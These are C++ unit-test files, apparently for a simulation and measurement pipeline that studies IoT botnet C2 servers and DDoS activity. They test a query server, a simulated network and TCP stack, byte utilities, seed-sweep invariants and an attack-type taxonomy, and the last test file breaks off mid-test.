    std::uint64_t id = 1;
    for (const auto& q : fixture_queries()) {
      corpus.push_back(serve::encode_request({id++, q}));
    }
  }

  int cases = 60;
  if (const char* env = std::getenv("MALNET_FUZZ_CASES")) {
    cases = std::min(std::atoi(env), 500);
  }
  testkit::Mutator mutator;
  util::Rng rng(22);
  for (int i = 0; i < cases; ++i) {
    const auto& base = corpus[rng.uniform(0, corpus.size() - 1)];
    auto mutant = mutator.mutate(base, rng);
    // Sometimes pipeline garbage behind a valid frame, so corruption lands
    // mid-stream rather than only at connection start.
    if (rng.uniform(0, 3) == 0) {
      const auto prefix = serve::encode_request({9999, "totals"});
      mutant.insert(mutant.begin(), prefix.begin(), prefix.end());
    }
    auto fd = util::tcp_connect("127.0.0.1", ts.port(), 2000);
    ASSERT_TRUE(fd.valid()) << "server stopped accepting at case " << i;
    (void)util::send_all(fd.get(), mutant, 1000);
    // Read whatever comes back (bounded); the connection must terminate —
    // by response+close, or by the idle reaper for partial frames.
    std::uint8_t buf[4096];
    for (int r = 0; r < 20; ++r) {
      if (util::recv_some(fd.get(), buf, sizeof(buf), 500) <= 0) break;
    }
  }

  // Liveness after the whole barrage: a well-formed client still gets a
  // byte-perfect answer, and the store never touched a payload.
  serve::Client client;
  ASSERT_TRUE(client.connect("127.0.0.1", ts.port()));
  EXPECT_EQ(client.query("totals"), expected_answers()[0]);
  EXPECT_EQ(counter_value(ts.store->metrics(), "store.payload_bytes_read"), 0u);
}

TEST(Serve, ClientRetriesConnectWithBackoff) {
  // Nothing listens here: all attempts fail, but boundedly and quickly.
  serve::Client client;
  const auto t0 = std::chrono::steady_clock::now();
  EXPECT_FALSE(client.connect(
      "127.0.0.1", 1,
      {.connect_timeout_ms = 100, .max_retries = 2, .backoff_ms = 10}));
  const auto elapsed = std::chrono::steady_clock::now() - t0;
  EXPECT_LT(elapsed, std::chrono::seconds(5));
  EXPECT_FALSE(client.connected());
}

// --- tracing wire extension and the introspection hooks (ISSUE 8) -----------

TEST(Wire, TracedRequestRoundTripAndBackwardCompat) {
  // Untraced requests still emit the V1 magic — byte-for-byte what an old
  // client produces, so old servers never see MQR2.
  const serve::Request untraced{9, "totals"};
  const auto v1 = serve::encode_request(untraced);
  ASSERT_GE(v1.size(), serve::kFramePrefixSize + 4);
  EXPECT_EQ(v1[4], 'M');
  EXPECT_EQ(v1[5], 'Q');
  EXPECT_EQ(v1[6], 'R');
  EXPECT_EQ(v1[7], '1');

  const serve::Request traced{9, "totals", 0xDEADBEEF, 42};
  const auto v2 = serve::encode_request(traced);
  EXPECT_EQ(v2[7], '2');
  EXPECT_EQ(v2.size(), v1.size() + 16);  // two extra u64 fields
  serve::FrameReader reader;
  reader.feed(v2);
  const auto body = reader.next();
  ASSERT_TRUE(body.has_value());
  const auto decoded = serve::decode_request(*body);
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(*decoded, traced);
  // A V2 body truncated into the fixed header is rejected, not misread.
  const auto short_v2 =
      util::Bytes(body->begin(), body->begin() + serve::kRequestHeaderSizeV2 - 1);
  EXPECT_FALSE(serve::decode_request(util::BytesView{short_v2}).has_value());
}

TEST(Serve, TracedRequestsProduceServerSpans) {
  obs::SpanRecorder spans;
  spans.set_enabled(true);
  serve::ServeConfig cfg;
  cfg.spans = &spans;
  TestServer ts(cfg);
  serve::Client client;
  ASSERT_TRUE(client.connect("127.0.0.1", ts.port()));
  // Untraced first: no span recorded.
  ASSERT_TRUE(client.query("totals").has_value());
  EXPECT_TRUE(spans.snapshot().empty());

  client.set_trace(0x1234);
  EXPECT_EQ(client.trace_id(), 0x1234u);
  ASSERT_TRUE(client.query("families").has_value());
  const auto recorded = spans.snapshot();
  ASSERT_EQ(recorded.size(), 1u);
  EXPECT_EQ(recorded[0].trace_id, 0x1234u);
  EXPECT_EQ(recorded[0].span_id, client.last_span_id());
  EXPECT_EQ(recorded[0].name, "serve:families");
  EXPECT_EQ(recorded[0].category, "serve");
  EXPECT_EQ(recorded[0].clock, 'w');
  ts.server->stop();
}

TEST(Serve, SlowLogCapturesQueriesAboveThreshold) {
  serve::ServeConfig cfg;
  cfg.slow_threshold_us = 0;  // everything is "slow": deterministic capture
  TestServer ts(cfg);
  serve::Client client;
  client.set_trace(0xF00D);
  ASSERT_TRUE(client.connect("127.0.0.1", ts.port()));
  ASSERT_TRUE(client.query("totals").has_value());
  ASSERT_TRUE(client.query("families").has_value());
  ts.server->stop();

  const auto& log = ts.server->slow_log();
  EXPECT_EQ(log.seen(), 2u);
  const auto entries = log.entries();
  ASSERT_EQ(entries.size(), 2u);
  bool saw_totals = false;
  for (const auto& e : entries) {
    EXPECT_EQ(e.op.rfind("query:", 0), 0u);
    EXPECT_EQ(e.trace_id, 0xF00Du);
    EXPECT_GT(e.bytes, 0u);
    EXPECT_NE(e.peer.find("127.0.0.1:"), std::string::npos);
    saw_totals = saw_totals || e.op == "query:totals";
  }
  EXPECT_TRUE(saw_totals);
  // The text rendering (the /slowz body) lists both.
  EXPECT_NE(log.render_text().find("op=query:families"), std::string::npos);
}

TEST(Serve, ConnectionTableTracksLivePeers) {
  TestServer ts;
  EXPECT_FALSE(ts.server->draining());
  serve::Client a, b;
  ASSERT_TRUE(a.connect("127.0.0.1", ts.port()));
  ASSERT_TRUE(b.connect("127.0.0.1", ts.port()));
  ASSERT_TRUE(a.query("totals").has_value());
  ASSERT_TRUE(b.query("totals").has_value());
  // The table refreshes once per poll tick; wait for it to see both.
  std::vector<serve::ConnectionInfo> conns;
  for (int i = 0; i < 100; ++i) {
    conns = ts.server->connections();
    if (conns.size() >= 2) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  ASSERT_GE(conns.size(), 2u);
  for (const auto& conn : conns) {
    EXPECT_NE(conn.peer.find("127.0.0.1:"), std::string::npos);
    EXPECT_FALSE(conn.paused);
  }
  ts.server->stop();
  EXPECT_TRUE(ts.server->draining());
  EXPECT_TRUE(ts.server->connections().empty());
}
