// sim: scheduler semantics, network delivery, host hooks, TCP machine.
#include <gtest/gtest.h>

#include "sim/network.hpp"
#include "sim/scheduler.hpp"

using namespace malnet;
using namespace malnet::sim;

// --- scheduler ---------------------------------------------------------------

TEST(Scheduler, ExecutesInTimeOrder) {
  EventScheduler s;
  std::vector<int> order;
  s.after(Duration::seconds(3), [&] { order.push_back(3); });
  s.after(Duration::seconds(1), [&] { order.push_back(1); });
  s.after(Duration::seconds(2), [&] { order.push_back(2); });
  s.run();
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
  EXPECT_EQ(s.now(), SimTime{} + Duration::seconds(3));
}

TEST(Scheduler, EqualTimesFireInInsertionOrder) {
  EventScheduler s;
  std::vector<int> order;
  for (int i = 0; i < 5; ++i) {
    s.at(SimTime{1000}, [&order, i] { order.push_back(i); });
  }
  s.run();
  EXPECT_EQ(order, (std::vector<int>{0, 1, 2, 3, 4}));
}

TEST(Scheduler, CancelPreventsExecution) {
  EventScheduler s;
  bool fired = false;
  const auto id = s.after(Duration::seconds(1), [&] { fired = true; });
  s.cancel(id);
  s.run();
  EXPECT_FALSE(fired);
  EXPECT_EQ(s.pending(), 0u);
}

TEST(Scheduler, CancelIsIdempotentAndIgnoresBogusIds) {
  EventScheduler s;
  const auto id = s.after(Duration::seconds(1), [] {});
  s.cancel(id);
  s.cancel(id);
  s.cancel(9999);
  s.cancel(0);
  EXPECT_EQ(s.run(), 0u);
}

TEST(Scheduler, RunUntilStopsAtBoundary) {
  EventScheduler s;
  int count = 0;
  s.after(Duration::seconds(1), [&] { ++count; });
  s.after(Duration::seconds(5), [&] { ++count; });
  s.run_until(SimTime{} + Duration::seconds(2));
  EXPECT_EQ(count, 1);
  EXPECT_EQ(s.now(), SimTime{} + Duration::seconds(2));
  s.run();
  EXPECT_EQ(count, 2);
}

TEST(Scheduler, RunUntilSkipsCancelledHead) {
  EventScheduler s;
  bool late_fired = false;
  const auto early = s.after(Duration::seconds(1), [] { FAIL(); });
  s.after(Duration::seconds(10), [&] { late_fired = true; });
  s.cancel(early);
  s.run_until(SimTime{} + Duration::seconds(5));
  EXPECT_FALSE(late_fired);
  s.run_until(SimTime{} + Duration::seconds(20));
  EXPECT_TRUE(late_fired);
}

TEST(Scheduler, EventsScheduledDuringExecutionRun) {
  EventScheduler s;
  int depth = 0;
  std::function<void()> recurse = [&] {
    if (++depth < 5) s.after(Duration::seconds(1), recurse);
  };
  s.after(Duration::seconds(1), recurse);
  s.run();
  EXPECT_EQ(depth, 5);
}

TEST(Scheduler, PastTimesClampToNow) {
  EventScheduler s;
  s.run_until(SimTime{} + Duration::seconds(10));
  bool fired = false;
  s.at(SimTime{} + Duration::seconds(1), [&] { fired = true; });
  s.run();
  EXPECT_TRUE(fired);
  EXPECT_EQ(s.now(), SimTime{} + Duration::seconds(10));
}

// --- network -----------------------------------------------------------------

namespace {
struct TestWorld {
  EventScheduler sched;
  Network net{sched};
};
}  // namespace

TEST(Network, DuplicateAddressThrows) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  EXPECT_THROW(Host(w.net, net::Ipv4{10, 0, 0, 1}), std::logic_error);
}

TEST(Network, DetachOnDestruction) {
  TestWorld w;
  {
    Host a(w.net, net::Ipv4{10, 0, 0, 1});
    EXPECT_EQ(w.net.host_count(), 1u);
  }
  EXPECT_EQ(w.net.host_count(), 0u);
  Host b(w.net, net::Ipv4{10, 0, 0, 1});  // address is reusable
  EXPECT_EQ(w.net.host_count(), 1u);
}

TEST(Network, LatencyIsDeterministicAndBounded) {
  TestWorld w;
  const net::Ipv4 a{1, 1, 1, 1}, b{2, 2, 2, 2};
  const auto l1 = w.net.latency(a, b);
  const auto l2 = w.net.latency(a, b);
  EXPECT_EQ(l1.us, l2.us);
  EXPECT_GE(l1.us, Duration::millis(5).us);
  EXPECT_LE(l1.us, Duration::millis(120).us);
}

TEST(Network, UdpDelivery) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  Host b(w.net, net::Ipv4{10, 0, 0, 2});
  std::string got;
  b.udp_bind(5000, [&](const net::Packet& p) { got = util::to_string(p.payload); });
  a.udp_send({b.addr(), 5000}, util::to_bytes("ping"));
  w.sched.run();
  EXPECT_EQ(got, "ping");
}

TEST(Network, UdpToUnboundPortIsDropped) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  Host b(w.net, net::Ipv4{10, 0, 0, 2});
  a.udp_send({b.addr(), 1234}, util::to_bytes("x"));
  w.sched.run();
  EXPECT_EQ(w.net.packets_delivered(), 1u);  // delivered to host, then dropped
}

TEST(Network, DarkAddressSwallowsPackets) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  a.udp_send({net::Ipv4{99, 99, 99, 99}, 1}, util::to_bytes("x"));
  w.sched.run();
  EXPECT_EQ(w.net.packets_transmitted(), 1u);
  EXPECT_EQ(w.net.packets_delivered(), 0u);
}

TEST(Network, FifoPerPair) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  Host b(w.net, net::Ipv4{10, 0, 0, 2});
  std::vector<int> got;
  b.udp_bind(1, [&](const net::Packet& p) { got.push_back(p.payload[0]); });
  for (int i = 0; i < 10; ++i) {
    a.udp_send({b.addr(), 1}, util::Bytes{static_cast<std::uint8_t>(i)});
  }
  w.sched.run();
  ASSERT_EQ(got.size(), 10u);
  for (int i = 0; i < 10; ++i) EXPECT_EQ(got[static_cast<std::size_t>(i)], i);
}

TEST(Network, IcmpHandler) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  Host b(w.net, net::Ipv4{10, 0, 0, 2});
  int type = -1;
  b.set_icmp_handler([&](const net::Packet& p) { type = p.icmp.type; });
  a.icmp_send(b.addr(), 3, 3);
  w.sched.run();
  EXPECT_EQ(type, 3);
}

TEST(Network, GlobalTapSeesTransmits) {
  TestWorld w;
  int tapped = 0;
  w.net.set_global_tap([&](const net::Packet&) { ++tapped; });
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  a.udp_send({net::Ipv4{99, 0, 0, 1}, 1}, util::to_bytes("x"));
  w.sched.run();
  EXPECT_EQ(tapped, 1);
}

TEST(Host, TapSeesDroppedOutbound) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  int taps = 0;
  a.set_tap([&](const net::Packet&, bool outbound) { taps += outbound ? 1 : 0; });
  a.set_outbound_filter([](net::Packet&) { return false; });  // drop all
  a.udp_send({net::Ipv4{99, 0, 0, 1}, 1}, util::to_bytes("x"));
  w.sched.run();
  EXPECT_EQ(taps, 1);
  EXPECT_EQ(w.net.packets_transmitted(), 0u);
}

TEST(Host, OutboundFilterCanRewriteDestination) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  Host b(w.net, net::Ipv4{10, 0, 0, 2});
  bool got = false;
  b.udp_bind(7, [&](const net::Packet&) { got = true; });
  a.set_outbound_filter([&](net::Packet& p) {
    p.dst = b.addr();  // DNAT
    return true;
  });
  a.udp_send({net::Ipv4{99, 0, 0, 1}, 7}, util::to_bytes("x"));
  w.sched.run();
  EXPECT_TRUE(got);
}

TEST(Host, EphemeralPortsSkipBoundOnes) {
  TestWorld w;
  Host a(w.net, net::Ipv4{10, 0, 0, 1});
  a.udp_bind(49152, [](const net::Packet&) {});
  const auto p = a.alloc_ephemeral_port();
  EXPECT_NE(p, 49152);
  EXPECT_GE(p, 49152);
}

// --- TCP ---------------------------------------------------------------------

TEST(Tcp, HandshakeAndData) {
  TestWorld w;
  Host server(w.net, net::Ipv4{10, 0, 0, 1});
  Host client(w.net, net::Ipv4{10, 0, 0, 2});

  std::string server_got, client_got;
  server.tcp_listen(80, [&](TcpConn& conn) {
    conn.on_data([&](TcpConn& c, util::BytesView d) {
      server_got = util::to_string(d);
      c.send(std::string_view("pong"));
    });
  });
  TcpConn* client_conn = nullptr;
  client.tcp_connect({server.addr(), 80}, [&](ConnectOutcome o, TcpConn* c) {
    ASSERT_EQ(o, ConnectOutcome::kConnected);
    client_conn = c;
    c->on_data([&](TcpConn&, util::BytesView d) { client_got = util::to_string(d); });
    c->send(std::string_view("ping"));
  });
  w.sched.run();
  EXPECT_EQ(server_got, "ping");
  EXPECT_EQ(client_got, "pong");
  ASSERT_NE(client_conn, nullptr);
  EXPECT_TRUE(client_conn->established());
  EXPECT_EQ(client_conn->bytes_sent(), 4u);
  EXPECT_EQ(client_conn->bytes_received(), 4u);
}

TEST(Tcp, RefusedWhenNotListening) {
  TestWorld w;
  Host server(w.net, net::Ipv4{10, 0, 0, 1});
  Host client(w.net, net::Ipv4{10, 0, 0, 2});
  ConnectOutcome outcome{};
  client.tcp_connect({server.addr(), 81},
                     [&](ConnectOutcome o, TcpConn*) { outcome = o; });
  w.sched.run();
  EXPECT_EQ(outcome, ConnectOutcome::kRefused);
}

TEST(Tcp, TimeoutOnDarkAddress) {
  TestWorld w;
  Host client(w.net, net::Ipv4{10, 0, 0, 2});
  ConnectOutcome outcome{};
  client.tcp_connect({net::Ipv4{66, 0, 0, 1}, 80},
                     [&](ConnectOutcome o, TcpConn*) { outcome = o; },
                     Duration::seconds(2));
  w.sched.run();
  EXPECT_EQ(outcome, ConnectOutcome::kTimeout);
  EXPECT_EQ(client.open_connections(), 0u);
}

TEST(Tcp, CloseNotifiesPeer) {
  TestWorld w;
  Host server(w.net, net::Ipv4{10, 0, 0, 1});
  Host client(w.net, net::Ipv4{10, 0, 0, 2});
  bool server_closed = false;
  server.tcp_listen(80, [&](TcpConn& conn) {
    conn.on_close([&](TcpConn&) { server_closed = true; });
  });
  client.tcp_connect({server.addr(), 80}, [&](ConnectOutcome o, TcpConn* c) {
    ASSERT_EQ(o, ConnectOutcome::kConnected);
    c->close();
  });
  w.sched.run();
  EXPECT_TRUE(server_closed);
}

TEST(Tcp, ResetNotifiesPeer) {
  TestWorld w;
  Host server(w.net, net::Ipv4{10, 0, 0, 1});
  Host client(w.net, net::Ipv4{10, 0, 0, 2});
  bool server_closed = false;
  server.tcp_listen(80, [&](TcpConn& conn) {
    conn.on_close([&](TcpConn&) { server_closed = true; });
  });
  client.tcp_connect({server.addr(), 80}, [&](ConnectOutcome o, TcpConn* c) {
    ASSERT_EQ(o, ConnectOutcome::kConnected);
    c->reset();
  });
  w.sched.run();
  EXPECT_TRUE(server_closed);
}

TEST(Tcp, ListenerRemovedBetweenSynAckAndAckRefuses) {
  // Regression: a C2 toggling its listener off mid-handshake must RST the
  // half-accepted connection, not leave a silent handler-less session.
  TestWorld w;
  Host server(w.net, net::Ipv4{10, 0, 0, 1});
  Host client(w.net, net::Ipv4{10, 0, 0, 2});
  server.tcp_listen(80, [&](TcpConn&) { FAIL() << "accept must not fire"; });

  bool client_saw_close = false;
  client.tcp_connect({server.addr(), 80}, [&](ConnectOutcome o, TcpConn* c) {
    // The client completes the handshake first...
    ASSERT_EQ(o, ConnectOutcome::kConnected);
    c->on_close([&](TcpConn&) { client_saw_close = true; });
  });
  // Unlisten exactly after the SYN-ACK leaves but before the ACK arrives:
  // run only until the SYN has been delivered to the server.
  w.sched.run(2);  // SYN transmit event + server delivery (sends SYN-ACK)
  server.tcp_unlisten(80);
  w.sched.run();
  EXPECT_TRUE(client_saw_close);
}

TEST(Tcp, InboundFlagAndEndpoints) {
  TestWorld w;
  Host server(w.net, net::Ipv4{10, 0, 0, 1});
  Host client(w.net, net::Ipv4{10, 0, 0, 2});
  server.tcp_listen(80, [&](TcpConn& conn) {
    EXPECT_TRUE(conn.inbound());
    EXPECT_EQ(conn.local().ip, server.addr());
    EXPECT_EQ(conn.remote().ip, client.addr());
  });
  client.tcp_connect({server.addr(), 80}, [&](ConnectOutcome, TcpConn* c) {
    ASSERT_NE(c, nullptr);
    EXPECT_FALSE(c->inbound());
  });
  w.sched.run();
}

TEST(Tcp, CloseAllConnections) {
  TestWorld w;
  Host server(w.net, net::Ipv4{10, 0, 0, 1});
  Host client(w.net, net::Ipv4{10, 0, 0, 2});
  int server_closes = 0;
  server.tcp_listen(80, [&](TcpConn& conn) {
    conn.on_close([&](TcpConn&) { ++server_closes; });
  });
  for (int i = 0; i < 3; ++i) {
    client.tcp_connect({server.addr(), 80}, [](ConnectOutcome, TcpConn*) {});
  }
  w.sched.run();
  client.close_all_connections();
  w.sched.run();
  EXPECT_EQ(server_closes, 3);
}

TEST(Tcp, InboundRewriterRestoresAddresses) {
  // Simulate the sandbox NAT: client sends to X, filter rewrites to B, the
  // inbound rewriter restores B's replies to X so the client's TCP state
  // machine matches.
  TestWorld w;
  Host server(w.net, net::Ipv4{10, 0, 0, 2});
  Host client(w.net, net::Ipv4{10, 0, 0, 3});
  const net::Ipv4 phantom{99, 0, 0, 9};
  server.tcp_listen(23, [](TcpConn& conn) { conn.send(std::string_view("hi")); });
  client.set_outbound_filter([&](net::Packet& p) {
    if (p.dst == phantom) p.dst = server.addr();
    return true;
  });
  client.set_inbound_rewriter([&](net::Packet& p) {
    if (p.src == server.addr()) p.src = phantom;
  });
  std::string got;
  client.tcp_connect({phantom, 23}, [&](ConnectOutcome o, TcpConn* c) {
    ASSERT_EQ(o, ConnectOutcome::kConnected);
    c->on_data([&](TcpConn&, util::BytesView d) { got = util::to_string(d); });
  });
  w.sched.run();
  EXPECT_EQ(got, "hi");
}

TEST(Network, PacketLossDropsConfiguredFraction) {
  EventScheduler sched;
  NetworkConfig cfg;
  cfg.loss = 0.3;
  Network net(sched, cfg);
  Host a(net, net::Ipv4{10, 0, 0, 1});
  Host b(net, net::Ipv4{10, 0, 0, 2});
  int got = 0;
  b.udp_bind(9, [&](const net::Packet&) { ++got; });
  for (int i = 0; i < 2000; ++i) {
    a.udp_send({b.addr(), 9}, util::to_bytes("x"));
  }
  sched.run();
  EXPECT_NEAR(static_cast<double>(got) / 2000.0, 0.7, 0.05);
  EXPECT_EQ(net.packets_lost() + static_cast<std::uint64_t>(got), 2000u);
}

TEST(Network, RejectsInvalidLoss) {
  EventScheduler sched;
  NetworkConfig cfg;
  cfg.loss = 1.0;
  EXPECT_THROW(Network(sched, cfg), std::invalid_argument);
}
