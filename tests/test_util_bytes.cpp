#include <gtest/gtest.h>

#include <limits>

#include "util/bytes.hpp"

using namespace malnet::util;

TEST(ByteWriter, WritesBigEndianIntegers) {
  ByteWriter w;
  w.u8(0xAB);
  w.u16(0x1234);
  w.u32(0xDEADBEEF);
  w.u64(0x0102030405060708ULL);
  const Bytes expected = from_hex("AB 1234 DEADBEEF 0102030405060708");
  EXPECT_EQ(w.bytes(), expected);
}

TEST(ByteWriter, LengthPrefixedBlob) {
  ByteWriter w;
  w.lp16(std::string_view("abc"));
  EXPECT_EQ(w.bytes(), from_hex("0003 616263"));
}

TEST(ByteWriter, PatchU16) {
  ByteWriter w;
  w.u16(0);
  w.raw(std::string_view("xy"));
  w.patch_u16(0, 2);
  EXPECT_EQ(w.bytes(), from_hex("0002 7879"));
}

TEST(ByteWriter, PatchOutOfRangeThrows) {
  ByteWriter w;
  w.u8(1);
  EXPECT_THROW(w.patch_u16(0, 1), std::out_of_range);
}

TEST(ByteReader, ReadsBackWhatWriterWrote) {
  ByteWriter w;
  w.u8(7);
  w.u16(300);
  w.u32(1u << 31);
  w.u64(0xFFFFFFFFFFFFFFFFULL);
  w.lp16(std::string_view("hello"));
  ByteReader r(w.bytes());
  EXPECT_EQ(r.u8(), 7);
  EXPECT_EQ(r.u16(), 300);
  EXPECT_EQ(r.u32(), 1u << 31);
  EXPECT_EQ(r.u64(), 0xFFFFFFFFFFFFFFFFULL);
  EXPECT_EQ(to_string(r.lp16()), "hello");
  EXPECT_TRUE(r.done());
}

TEST(ByteReader, ThrowsOnTruncation) {
  const Bytes b{0x01};
  ByteReader r(b);
  EXPECT_THROW((void)r.u16(), TruncatedInput);
}

TEST(ByteReader, ThrowsOnOverlongLengthPrefix) {
  const Bytes b = from_hex("00FF 61");
  ByteReader r(b);
  EXPECT_THROW((void)r.lp16(), TruncatedInput);
}

TEST(ByteReader, SkipAndPosition) {
  const Bytes b = from_hex("0102030405");
  ByteReader r(b);
  r.skip(3);
  EXPECT_EQ(r.position(), 3u);
  EXPECT_EQ(r.remaining(), 2u);
  EXPECT_EQ(r.u8(), 4);
}

TEST(Hex, RoundTrip) {
  const Bytes b = from_hex("00 ff 7f 80");
  EXPECT_EQ(to_hex(b), "00ff7f80");
}

TEST(Hex, RejectsOddNibbles) { EXPECT_THROW(from_hex("abc"), std::invalid_argument); }

TEST(Hex, RejectsNonHex) { EXPECT_THROW(from_hex("zz"), std::invalid_argument); }

TEST(Hexdump, ShowsOffsetsAndAscii) {
  const auto dump = hexdump(to_bytes("Hello, world!"));
  EXPECT_NE(dump.find("48 65 6c 6c 6f"), std::string::npos);
  EXPECT_NE(dump.find("|Hello, world!|"), std::string::npos);
}

TEST(Hexdump, TruncatesLongInput) {
  const Bytes big(1000, 0x41);
  const auto dump = hexdump(big, 64);
  EXPECT_NE(dump.find("more bytes"), std::string::npos);
}

TEST(Contains, FindsSubsequences) {
  const Bytes hay = to_bytes("the quick brown fox");
  EXPECT_TRUE(contains(hay, std::string_view("quick")));
  EXPECT_TRUE(contains(hay, std::string_view("")));
  EXPECT_FALSE(contains(hay, std::string_view("slow")));
}

TEST(Contains, BinaryNeedles) {
  const Bytes hay = from_hex("00 01 02 03");
  EXPECT_TRUE(contains(hay, BytesView{from_hex("0102")}));
  EXPECT_FALSE(contains(hay, BytesView{from_hex("0201")}));
}

// Hardening regressions surfaced while building the fuzz harness.

TEST(ToString, EmptySpanWithNullData) {
  // A default BytesView has data() == nullptr; constructing a std::string
  // from (nullptr, 0) is undefined, so the empty case must be guarded.
  EXPECT_EQ(to_string(BytesView{}), "");
  EXPECT_EQ(to_string(Bytes{}), "");
  EXPECT_EQ(to_string(to_bytes("x")), "x");
}

TEST(ByteReader, NeedRejectsWraparoundSizes) {
  // `pos_ + n` in the bounds check would wrap for n near SIZE_MAX and let
  // the read through; the subtraction form must reject it.
  const Bytes b = from_hex("0102");
  ByteReader r(b);
  r.skip(1);
  EXPECT_THROW((void)r.raw(std::numeric_limits<std::size_t>::max()), TruncatedInput);
  EXPECT_THROW((void)r.raw(std::numeric_limits<std::size_t>::max() - 1), TruncatedInput);
  EXPECT_EQ(r.u8(), 2);  // reader still usable after the rejected reads
}
