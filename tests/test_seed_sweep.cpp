// Property tests across seeds: the pipeline's structural invariants must
// hold for every world the generator can produce, not just the study seed.
#include <gtest/gtest.h>

#include <set>

#include "core/pipeline.hpp"

using namespace malnet;
using namespace malnet::core;

class SeedSweep : public ::testing::TestWithParam<std::uint64_t> {
 protected:
  static StudyResults run(std::uint64_t seed, Pipeline** out = nullptr) {
    PipelineConfig cfg;
    cfg.seed = seed;
    cfg.world.total_samples = 120;
    cfg.run_probe_campaign = false;
    static std::map<std::uint64_t, std::unique_ptr<Pipeline>> pipelines;
    static std::map<std::uint64_t, StudyResults> cache;
    if (cache.count(seed) == 0) {
      pipelines[seed] = std::make_unique<Pipeline>(cfg);
      cache[seed] = pipelines[seed]->run();
    }
    if (out != nullptr) *out = pipelines[seed].get();
    return cache[seed];
  }
};

TEST_P(SeedSweep, EverySampleAnalysedExactlyOnce) {
  const auto r = run(GetParam());
  EXPECT_EQ(r.d_samples.size(), 120u);
  std::set<std::string> shas;
  for (const auto& s : r.d_samples) {
    EXPECT_TRUE(shas.insert(s.sha256).second) << "duplicate analysis record";
  }
}

TEST_P(SeedSweep, DetectionsNeverInventAddresses) {
  Pipeline* pipeline = nullptr;
  const auto r = run(GetParam(), &pipeline);
  for (const auto& [addr, rec] : r.d_c2s) {
    EXPECT_NE(pipeline->world().find_c2(addr), nullptr) << addr;
  }
}

TEST_P(SeedSweep, LivenessNeverContradictsGroundTruth) {
  Pipeline* pipeline = nullptr;
  const auto r = run(GetParam(), &pipeline);
  for (const auto& [addr, rec] : r.d_c2s) {
    for (const auto day : rec.live_days) {
      EXPECT_TRUE(pipeline->world().c2_alive_on(addr, day)) << addr << " day " << day;
    }
  }
}

TEST_P(SeedSweep, DdosDetectionsEqualIssuedCommands) {
  Pipeline* pipeline = nullptr;
  const auto r = run(GetParam(), &pipeline);
  EXPECT_EQ(r.d_ddos.size(), pipeline->world().all_issued().size());
  for (const auto& d : r.d_ddos) EXPECT_TRUE(d.detection.verified);
}

TEST_P(SeedSweep, ExploitAttributionsAreAlwaysKnownVulns) {
  const auto r = run(GetParam());
  for (const auto& e : r.d_exploits) {
    EXPECT_NO_THROW((void)vulndb::VulnDatabase::instance().by_id(e.vuln));
    EXPECT_FALSE(e.loader_name.empty());
  }
}

TEST_P(SeedSweep, LifespansWithinPlannedLifetimes) {
  Pipeline* pipeline = nullptr;
  const auto r = run(GetParam(), &pipeline);
  for (const auto& [addr, rec] : r.d_c2s) {
    if (!rec.ever_live()) continue;
    const auto* plan = pipeline->world().find_c2(addr);
    ASSERT_NE(plan, nullptr);
    EXPECT_LE(rec.observed_lifespan_days(), plan->lifetime_days);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, SeedSweep,
                         ::testing::Values(1u, 7u, 22u, 404u, 0xDEADBEEFu),
                         [](const auto& info) {
                           return "seed_" + std::to_string(info.param);
                         });
