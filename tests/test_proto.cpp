#include <gtest/gtest.h>

#include "proto/attack.hpp"
#include "proto/daddyl33t.hpp"
#include "proto/family.hpp"
#include "proto/gafgyt.hpp"
#include "proto/irc.hpp"
#include "proto/mirai.hpp"
#include "proto/p2p.hpp"

using namespace malnet;
using namespace malnet::proto;

// --- family ------------------------------------------------------------------

TEST(Family, StringRoundTrip) {
  for (int f = 0; f < kFamilyCount; ++f) {
    const auto fam = static_cast<Family>(f);
    const auto parsed = family_from_string(to_string(fam));
    ASSERT_TRUE(parsed);
    EXPECT_EQ(*parsed, fam);
  }
  EXPECT_FALSE(family_from_string("WannaCry"));
  EXPECT_TRUE(family_from_string("mirai"));  // case-insensitive
}

TEST(Family, P2pClassification) {
  EXPECT_TRUE(is_p2p(Family::kMozi));
  EXPECT_TRUE(is_p2p(Family::kHajime));
  EXPECT_FALSE(is_p2p(Family::kMirai));
  EXPECT_FALSE(is_p2p(Family::kVpnFilter));
}

// --- attack taxonomy -----------------------------------------------------------

TEST(Attack, ProtocolBuckets) {
  EXPECT_EQ(attack_protocol(AttackType::kUdpFlood, 8080), AttackProtocol::kUdp);
  EXPECT_EQ(attack_protocol(AttackType::kUdpFlood, 53), AttackProtocol::kDns);
  EXPECT_EQ(attack_protocol(AttackType::kSynFlood, 80), AttackProtocol::kTcp);
  EXPECT_EQ(attack_protocol(AttackType::kStomp, 61613), AttackProtocol::kTcp);
  EXPECT_EQ(attack_protocol(AttackType::kBlacknurse, 0), AttackProtocol::kIcmp);
  EXPECT_EQ(attack_protocol(AttackType::kVse, 27015), AttackProtocol::kUdp);
}

TEST(Attack, GamingTypes) {
  // §5: "two types of attacks targeting gaming servers" — VSE and NFO.
  int gaming = 0;
  for (int t = 0; t < kAttackTypeCount; ++t) {
    if (is_gaming_attack(static_cast<AttackType>(t))) ++gaming;
  }
  EXPECT_EQ(gaming, 2);
  EXPECT_TRUE(is_gaming_attack(AttackType::kVse));
  EXPECT_TRUE(is_gaming_attack(AttackType::kNfo));
}

TEST(Attack, FamilyRepertoires) {
  // Figure 11: Mirai 5 types, Daddyl33t 5 (most diverse incl. NURSE/NFO),
  // Gafgyt 3; together they cover all 8.
  std::set<AttackType> all;
  for (const Family f : {Family::kMirai, Family::kGafgyt, Family::kDaddyl33t}) {
    for (const auto t : attacks_of(f)) all.insert(t);
  }
  EXPECT_EQ(all.size(), static_cast<std::size_t>(kAttackTypeCount));
  EXPECT_EQ(attacks_of(Family::kMirai).size(), 5u);
